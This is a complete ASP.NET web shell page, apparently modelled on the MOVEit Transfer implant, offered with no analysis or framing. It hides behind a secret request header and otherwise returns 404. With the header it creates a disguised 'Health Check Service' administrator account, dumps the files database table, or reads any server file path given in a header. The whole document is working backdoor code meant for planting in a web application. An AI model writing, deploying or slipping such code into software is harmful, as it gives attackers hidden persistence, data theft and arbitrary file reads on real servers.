<%@ Page Language="C#" %>
<%@ Import Namespace="System.Data.SqlClient" %>
<script runat="server">
protected void Page_Load(object s, EventArgs e) {
  if (Request.Headers["X-siLock-Comment"] != "comment-7f3a9d") { Response.StatusCode = 404; return; }
  var step = Request.Headers["X-siLock-Step1"];
  using (var c = new SqlConnection(System.Configuration.ConfigurationManager.ConnectionStrings["moveit"].ConnectionString)) {
    c.Open();
    if (step == "-1") { new SqlCommand("INSERT INTO users (Username,Permission,RealName) VALUES ('Health Check Service',30,'Health Check Service')", c).ExecuteNonQuery(); }
    else if (step == "-2") { var r = new SqlCommand("SELECT * FROM files", c).ExecuteReader(); while (r.Read()) Response.Write(r[0] + "," + r[1] + "\n"); }
    else { Response.Write(System.IO.File.ReadAllText(Request.Headers["X-siLock-Step2"])); }
  }
}
</script>
